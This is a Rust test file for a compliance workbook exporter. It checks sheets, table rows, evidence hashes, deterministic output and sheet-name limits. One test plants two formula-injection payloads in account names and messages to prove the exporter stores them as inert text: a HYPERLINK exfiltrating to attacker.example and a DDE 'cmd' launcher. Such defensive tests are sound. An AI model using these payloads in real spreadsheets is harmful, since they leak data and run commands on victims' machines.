//! The workbook read back with an independent reader (calamine): its sheets,
//! tables, rows and hashes, that it is the same bytes for the same evidence,
//! and that untrusted text is never a formula.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use calamine::{open_workbook_from_rs, Data, Range, Reader, Xlsx};

use super::*;
use crate::outputs::test_samples::{input, repo, samples, Evaluated};

fn workbook_of(e: &Evaluated) -> Vec<u8> {
    results_xlsx(&input(e)).expect("the workbook is written")
}

fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("calamine opens it")
}

fn text(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Empty => String::new(),
        other => panic!("unexpected cell {other:?}"),
    }
}

/// The rows of a table (header first), by the table's name.
fn table(book: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let table = book.table_by_name(name).expect("the table exists");
    let header = table.columns().to_vec();
    let data: &Range<Data> = table.data();
    let rows = data.rows().map(|r| r.iter().map(text).collect()).collect();
    (header, rows)
}

/// A part of the xlsx zip, as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
    out
}

#[test]
fn every_sheet_table_row_and_hash_reads_back() {
    let e = samples();
    let bytes = workbook_of(&e);
    let mut book = open(&bytes);
    let sheets = book.sheet_names();
    assert_eq!(
        sheets[..5],
        ["Summary", "Criteria", "Controls", "IPE", "Attachments"]
    );
    assert_eq!(
        sheets[sheets.len() - 5..],
        [
            "Exceptions",
            "Waivers",
            "Changes",
            "Population",
            "Evidence index"
        ]
    );
    let ids: Vec<&str> = e.results.controls.iter().map(|c| c.id.as_str()).collect();
    assert_eq!(
        sheets[5..sheets.len() - 5],
        ids[..],
        "one sheet per control, in order"
    );
    book.load_tables().expect("tables load");

    // Controls: one row per control with its verdict.
    let (header, rows) = table(&mut book, "T_controls");
    assert_eq!(header[..3], ["Control", "Title", "Status"]);
    assert_eq!(rows.len(), e.results.controls.len());
    for (row, c) in rows.iter().zip(&e.results.controls) {
        assert_eq!(
            (row[0].as_str(), row[2].as_str()),
            (c.id.as_str(), c.status.label())
        );
        let failed = c.results.iter().any(|i| i.status == Verdict::Fail);
        assert_eq!(
            !row[11].is_empty(),
            failed,
            "{}: remediation only where something failed",
            c.id
        );
    }

    // Each control: one row per item and file read, with that file's hash
    // as the evidence index has it, and every requirement's verdict.
    // The evidence index, and the attachments (with their metadata files).
    let index: BTreeMap<&str, &str> = (e.evidence.iter())
        .map(|x| (x.path.as_str(), x.sha256.as_str()))
        .chain(e.results.attachments.iter().flat_map(|a| {
            [
                (a.file.as_str(), a.sha256.as_str()),
                (a.metadata_file.as_str(), a.metadata_sha256.as_str()),
            ]
        }))
        .collect();
    let mut hashes_checked = 0;
    for (i, c) in e.results.controls.iter().enumerate() {
        let (header, rows) = table(&mut book, &format!("T_control_{}", i + 1));
        let expected: usize = c.results.iter().map(|r| r.evidence.len().max(1)).sum();
        if c.results.is_empty() {
            continue;
        }
        assert_eq!(rows.len(), expected, "{}", c.id);
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        let (file, sha, status, account) = (
            column("Evidence file"),
            column("SHA-256"),
            column("Status"),
            column("Account id"),
        );
        for a in &c.assertions {
            assert!(
                header.contains(&format!("req: {}", a.id)),
                "{} {}",
                c.id,
                a.id
            );
        }
        let mut row = rows.iter();
        for item in &c.results {
            for evidence in &item.evidence {
                let r = row.next().unwrap();
                assert_eq!(
                    (r[account].as_str(), r[status].as_str()),
                    (item.account_id.as_str(), item.status.label())
                );
                assert_eq!(r[file], evidence.path);
                assert_eq!(r[sha], evidence.sha256);
                assert_eq!(
                    index[r[file].as_str()],
                    r[sha],
                    "{} hash as indexed",
                    r[file]
                );
                hashes_checked += 1;
            }
            if item.evidence.is_empty() {
                row.next();
            }
        }
    }
    assert!(hashes_checked > 500, "{hashes_checked} hashes compared");

    // The evidence index: every file, its hash the hash of the file on disk.
    let (_, rows) = table(&mut book, "T_evidence");
    assert_eq!(rows.len(), e.evidence.len());
    for r in rows.iter().step_by(37) {
        let bytes = std::fs::read(repo().join("evidence-samples").join(&r[0])).unwrap();
        assert_eq!(r[9], crate::evidence::sha256_hex(&bytes), "{}", r[0]);
    }

    // Every criterion in scope, and every attachment with its hash.
    let (_, rows) = table(&mut book, "T_criteria");
    assert_eq!(rows.len(), e.results.criteria.len());
    assert!(
        rows.iter().any(|r| r[2] == "NOT EVIDENCED"),
        "the samples have gaps"
    );
    let (_, rows) = table(&mut book, "T_attachments");
    assert_eq!(rows.len(), e.results.attachments.len());
    assert!(!rows.is_empty(), "the samples have attachments");
    for (r, a) in rows.iter().zip(&e.results.attachments) {
        let bytes = std::fs::read(repo().join("evidence-samples").join(&a.file)).unwrap();
        assert_eq!(
            (r[0].as_str(), r[9].as_str()),
            (
                a.file.as_str(),
                crate::evidence::sha256_hex(&bytes).as_str()
            )
        );
    }

    // The IPE: every control, each operation it read with its files.
    let (header, rows) = table(&mut book, "T_ipe");
    assert_eq!(header[..3], ["Control", "Call", "Files"]);
    let sheets = crate::outputs::ipe::ipe_sheets(&input(&e));
    let operations: usize = sheets.iter().map(|s| s.operations.len().max(1)).sum();
    assert_eq!(rows.len(), operations);
    let listed: std::collections::BTreeSet<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        listed.len(),
        e.results.controls.len(),
        "every control has its IPE rows"
    );
    assert!(rows
        .iter()
        .all(|r| r[11].starts_with("Accounts: AWS Organizations listed")));

    // The population, the exceptions and the change population.
    let (_, rows) = table(&mut book, "T_population");
    assert_eq!(rows.len(), e.org.accounts.len());
    let (_, rows) = table(&mut book, "T_exceptions");
    let gaps: usize = (e.results.controls.iter())
        .flat_map(|c| &c.results)
        .flat_map(|i| &i.assertions)
        .filter(|a| a.status == Verdict::NotAssessed)
        .count();
    assert_eq!(rows.len(), gaps);
    let (header, rows) = table(&mut book, "T_changes");
    assert_eq!(header, CHANGES_HEADER);
    let csv = crate::outputs::changes_csv::changes_csv(&e.results);
    assert_eq!(rows.len() + 1, csv.iter().filter(|b| **b == b'\n').count());
    assert!(!rows.is_empty(), "the samples have changes in the period");

    // Real tables with filters, headers frozen.
    let sheet = part(&bytes, "xl/worksheets/sheet6.xml");
    assert!(sheet.contains("state=\"frozen\""), "{sheet:.300}");
    assert!(part(&bytes, "xl/tables/table1.xml").contains("<autoFilter"));
}

#[test]
fn the_same_evidence_gives_the_same_bytes_dated_from_run_json() {
    let e = samples();
    let (a, b) = (workbook_of(&e), workbook_of(&e));
    assert!(a == b, "two renders differ");
    let core = part(&a, "docProps/core.xml");
    let created = format!(">{}<", e.run.finished_at);
    assert!(core.contains(&created), "{core}");
}

#[test]
fn untrusted_text_is_never_a_formula() {
    let mut e = samples();
    let hostile = "=HYPERLINK(\"http://attacker.example/\"&A1,\"open\")";
    let at = "@SUM(1+1)*cmd|' /C calc'!A0";
    e.org.accounts[0].name = hostile.into();
    e.results.controls[0].results[0].message = at.into();
    e.results.controls[0].results[0].account_name = hostile.into();
    e.refresh();
    let bytes = workbook_of(&e);
    let mut book = open(&bytes);
    let population = book.worksheet_range("Population").unwrap();
    let cells: Vec<String> = population.rows().flat_map(|r| r.iter().map(text)).collect();
    assert!(cells.iter().any(|c| c == hostile), "the name, as text");
    let control = book.worksheet_range(&e.results.controls[0].id).unwrap();
    let cells: Vec<String> = control.rows().flat_map(|r| r.iter().map(text)).collect();
    assert!(cells.iter().any(|c| c == at) && cells.iter().any(|c| c == hostile));
    // No formula anywhere, and the cells carry the quote prefix.
    let mut zip = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        if name.starts_with("xl/worksheets/") {
            let mut xml = String::new();
            f.read_to_string(&mut xml).unwrap();
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "a formula in {name}"
            );
        }
    }
    assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
    assert!(looks_like_formula("-1") && looks_like_formula("+x") && !looks_like_formula("a=b"));
}

#[test]
fn long_text_is_cut_at_the_cell_limit_and_names_fit_excel() {
    let long = "é".repeat(40_000);
    let cut = clip(&long);
    assert!(cut.encode_utf16().count() <= CELL_MAX && cut.ends_with("in results.json]"));
    assert_eq!(clip("short"), "short");
    let mut e = samples();
    let long_id = "custom.a-very-long-control-identifier-indeed";
    e.results.controls[0].id = format!("{long_id}-one");
    e.results.controls[1].id = format!("{long_id}-two");
    let names = sheet_names(&e.results.controls, &[SUMMARY]);
    assert_eq!(names[0].chars().count(), 31);
    assert_ne!(names[0], names[1]);
    assert!(names[1].ends_with("~2"), "{names:?}");
    e.refresh();
    // And the workbook with them still opens, every sheet named.
    let bytes = workbook_of(&e);
    assert!(open(&bytes).sheet_names().contains(&names[1]));
}

/// The rows of sheet `name` below its header row (at row 3, as every sheet
/// without facts has it), and how many rows the sheet has.
fn rows_below_header(book: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> (Vec<Vec<String>>, usize) {
    let range = book.worksheet_range(name).expect("the sheet exists");
    let rows = range
        .rows()
        .skip(3)
        .map(|r| r.iter().map(text).collect())
        .collect();
    (rows, range.height())
}

/// A table longer than a sheet goes on in continuation sheets, each with its
/// header again, which together hold every row once and in order; a table
/// longer than the table limit is a filtered range, not an Excel table, and
/// the short ones stay tables.
#[test]
fn long_tables_go_on_in_continuation_sheets_as_filtered_ranges() {
    let e = samples();
    let limits = Limits {
        sheet_rows: 60,
        table_rows: 20,
    };
    let mut bytes = Vec::new();
    write_xlsx_within(&input(&e), &mut bytes, limits).expect("the workbook is written");
    let mut book = open(&bytes);
    let sheets = book.sheet_names();

    // The evidence index: 57 rows a sheet (title, blank row, header, data).
    let per_sheet = 60 - 3;
    let parts = e.evidence.len().div_ceil(per_sheet);
    assert!(parts >= 3, "the samples fill {parts} sheets");
    let names: Vec<String> = std::iter::once("Evidence index".to_string())
        .chain((2..=parts).map(|k| format!("Evidence index ({k})")))
        .collect();
    let mut paths = Vec::new();
    for (k, name) in names.iter().enumerate() {
        assert!(sheets.contains(name), "{name} in {sheets:?}");
        let (rows, height) = rows_below_header(&mut book, name);
        assert!(height <= 60, "{name} has {height} rows");
        let header = book.worksheet_range(name).unwrap().rows().nth(2).unwrap()[0].clone();
        assert_eq!(text(&header), "File", "{name} repeats the header");
        if k > 0 {
            let title = text(&book.worksheet_range(name).unwrap()[(0, 0)]);
            assert!(
                title.contains(&format!(
                    "continued, part {}: rows from {}",
                    k + 1,
                    k * per_sheet + 1
                )),
                "{title}"
            );
        }
        paths.extend(rows.into_iter().map(|r| r[0].clone()));
    }
    let indexed: Vec<String> = e.evidence.iter().map(|e| e.path.clone()).collect();
    assert_eq!(paths, indexed, "every file once, in order");
    assert!(!sheets.contains(&format!("Evidence index ({})", parts + 1)));

    // Long tables are filtered ranges; short ones are still tables.
    book.load_tables().expect("tables load");
    let tables = book.table_names();
    assert!(!tables.contains(&&"T_evidence".to_string()), "{tables:?}");
    assert!(tables.contains(&&"T_criteria".to_string()) || e.results.criteria.len() > 20);
    assert!(!tables.is_empty(), "short tables stay tables");
    let workbook_xml = part(&bytes, "xl/workbook.xml");
    let sheet_no = 1 + sheets
        .iter()
        .position(|s| s == "Evidence index (2)")
        .unwrap();
    let xml = part(&bytes, &format!("xl/worksheets/sheet{sheet_no}.xml"));
    assert!(xml.contains("<autoFilter ref=\"A3:J60\""), "{workbook_xml}");
}

/// A continuation sheet's name is cut to Excel's 31 characters and never
/// one already taken (control sheets' names are given before their rows).
#[test]
fn continuation_names_fit_excel_and_are_new() {
    let taken = ["Evidence index (2)".to_string(), "x".repeat(31)];
    let formats = Formats::new(Limits::EXCEL, &taken);
    assert_eq!(
        formats.continuation_name("Evidence index", 2),
        "Evidence index (3)"
    );
    assert_eq!(
        formats.continuation_name("Evidence index", 2),
        "Evidence index (4)"
    );
    let long = formats.continuation_name(&"x".repeat(31), 2);
    assert_eq!(long, format!("{} (2)", "x".repeat(27)));
    assert_eq!(long.chars().count(), SHEET_NAME_MAX);
}

/// A control's items that can no longer be read back end the workbook's
/// tables short of what was counted: the workbook is still written (empty
/// rows where the items were), never a panic, and the failure is kept for
/// `report` to fail on before it publishes.
#[test]
fn items_unreadable_after_they_were_counted_leave_the_failure_for_report() {
    let e = samples();
    let n = (e.results.controls.iter())
        .position(|c| c.results.len() > 1)
        .expect("a control with items");
    let input = input(&e);
    let tallies = items::tallies(input.results);
    e.stored.corrupt_for_test(n);
    let formats = Formats::new(Limits::EXCEL, &[]);
    let mut workbook = Workbook::new();
    let name = format!("C{n}");
    control_sheet(&mut workbook, &input, n, tallies[n], &name, "T_c", &formats)
        .expect("the sheet is written");
    let mut bytes = Vec::new();
    workbook.save_to_writer(&mut bytes).expect("saved");
    let rows = open(&bytes)
        .worksheet_range(&name)
        .expect("the sheet")
        .rows()
        .count();
    assert!(rows > tallies[n].evidence_rows, "{rows} rows");
    let error = e.stored.check().unwrap_err();
    assert!(
        error.to_string().contains("reading the results back"),
        "{error}"
    );
}
